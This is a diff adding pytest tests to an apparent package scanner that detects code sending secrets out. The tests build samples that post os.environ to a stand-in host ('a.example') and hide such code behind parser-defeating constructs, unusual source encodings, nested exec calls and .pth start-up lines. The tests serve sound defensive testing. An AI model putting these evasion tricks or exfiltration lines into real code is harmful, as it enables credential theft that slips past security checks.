@@ -104,3 +104,122 @@ def test_in_its_worker_it_finds_the_same(behaviour: BehaviourScanner, tmp_path: 
         found = pool.scan("behaviour", target(tmp_path / "worker"))
 
     assert found == list(behaviour.scan(target(tmp_path / "here")))
+
+
+HIDDEN_BEHIND = {
+    "a chain of calls": "x = 'a'" + ".f()" * 12_000,
+    "a long list of elifs": "if 0: pass\n" + "elif 0: pass\n" * 9000,
+    "brackets": "[" * 201 + "]" * 201,
+    "lambdas": "f = " + "lambda:" * 7000 + "0",
+    "a NUL": "# \0",
+    "names of names": "a0 = 1\n" + "".join(f"a{n + 1} = a{n}\n" for n in range(500)) + "a500()",
+}
+
+
+@pytest.mark.parametrize("cover", HIDDEN_BEHIND.values(), ids=list(HIDDEN_BEHIND))
+@pytest.mark.parametrize("path", ["sample/__init__.py", "sample/deep/agent.py", "setup.py"])
+def test_what_the_gate_cannot_look_at_is_not_clean(
+    behaviour: BehaviourScanner, tmp_path: Path, cover: str, path: str
+) -> None:
+    found = scan(behaviour, tmp_path, {path: f"{SENDS}{cover}\n"})
+
+    assert {each.severity for each in found} == {Severity.HIGH}
+
+
+def test_deep_but_honest_code_is_looked_at(behaviour: BehaviourScanner, tmp_path: Path) -> None:
+    long = "import os\nx = os.environ" + "['a'].f()" * 100 + "\ny = x" + " + 'a'" * 250 + "\n"
+
+    assert scan(behaviour, tmp_path, {"sample/__init__.py": long}) == []
+    (found,) = scan(behaviour, tmp_path / "2", {"sample/__init__.py": long + SENDS})
+    assert found.rule == "sends-secrets"
+
+
+def test_a_module_that_cannot_be_looked_at_may_call_all_of_another(
+    behaviour: BehaviourScanner, tmp_path: Path
+) -> None:
+    agent = SENDS.replace("requests.post", "def go():\n    requests.post")
+    files = {"sample/agent.py": agent, "sample/__init__.py": ""}
+
+    assert scan(behaviour, tmp_path, files) == []
+    files["sample/__init__.py"] = f"from .agent import go\ngo()\n{HIDDEN_BEHIND['a NUL']}"
+    found = scan(behaviour, tmp_path / "2", files)
+    assert "sends-secrets" in {each.rule for each in found}
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "print 'Python 2'\n",
+        "import {{ cookiecutter.name }}\n",
+        "x = 'unterminated\n",
+        "# \xe9".encode("latin-1"),
+    ],
+)
+def test_what_no_python_parses_is_told_and_refuses_nothing(
+    behaviour: BehaviourScanner, tmp_path: Path, text: str | bytes
+) -> None:
+    content = SENDS.encode() + (text if isinstance(text, bytes) else text.encode())
+
+    (found,) = scan(behaviour, tmp_path, {"sample/data/bad.py": content})
+
+    assert (found.rule, found.severity) == ("not-python", Severity.INFO)
+    assert found.locations == (Location("sample/data/bad.py", 1),)
+
+
+def test_code_for_a_newer_python_is_looked_at(behaviour: BehaviourScanner, tmp_path: Path) -> None:
+    code = (
+        "import os, requests\ntype Where = str\ndef send[T](to: T):\n"
+        "    requests.post(f'{'https:'}//a.example', json=dict(os.environ))\nsend(1)\n"
+    )
+
+    (found,) = scan(behaviour, tmp_path, {"sample/__init__.py": code})
+
+    assert (found.rule, found.locations[0].line) == ("sends-secrets", 4)
+
+
+@pytest.mark.parametrize("codec", ["utf-7", "raw_unicode_escape", "rot13", "hex", "x.own", "gbk"])
+def test_code_in_an_encoding_that_hides_it_refuses(
+    behaviour: BehaviourScanner, tmp_path: Path, codec: str
+) -> None:
+    code = f"#!/usr/bin/python\n# coding: {codec}\nprint(+AGEAYg-)\n"
+
+    (found,) = scan(behaviour, tmp_path, {"sample/sub/plain.py": code})
+
+    assert (found.rule, found.severity) == ("unusual-encoding", Severity.HIGH)
+    assert codec.partition(".")[0][:3] in found.message
+
+
+def test_code_in_a_plain_encoding_is_read_in_it(
+    behaviour: BehaviourScanner, tmp_path: Path
+) -> None:
+    code = f"# coding: latin-1\nname = '\xe9'\r{SENDS}".encode("latin-1")
+
+    (found,) = scan(behaviour, tmp_path, {"sample/__init__.py": code})
+
+    assert (found.rule, found.locations[0].line) == ("sends-secrets", 5)
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        "exec(" + repr("x = 1\n" * 800 + SENDS) + ")",
+        f"exec(compile({SENDS!r}, 'a', 'exec'))",
+        "exec(" + repr("exec(" + repr("exec(" + repr(SENDS) + ")") + ")") + ")",
+    ],
+    ids=["long", "compiled", "thrice"],
+)
+def test_code_in_code_is_looked_at_or_refuses(
+    behaviour: BehaviourScanner, tmp_path: Path, code: str
+) -> None:
+    found = scan(behaviour, tmp_path, {"sample/__init__.py": code})
+
+    assert {each.severity for each in found} == {Severity.HIGH}
+    assert {each.rule for each in found} & {"sends-secrets", "unreadable-code"}
+
+
+def test_start_up_lines_are_read_in_both_ways(behaviour: BehaviourScanner, tmp_path: Path) -> None:
+    sends = SENDS.replace("\n", "; ")
+
+    for number, text in enumerate((f"import a; x = '\x0c'; {sends}\n", f"./a\x0c{sends}\n")):
+        found = scan(behaviour, tmp_path / str(number), {"sample.pth": text})
+        assert "sends-secrets" in {each.rule for each in found}
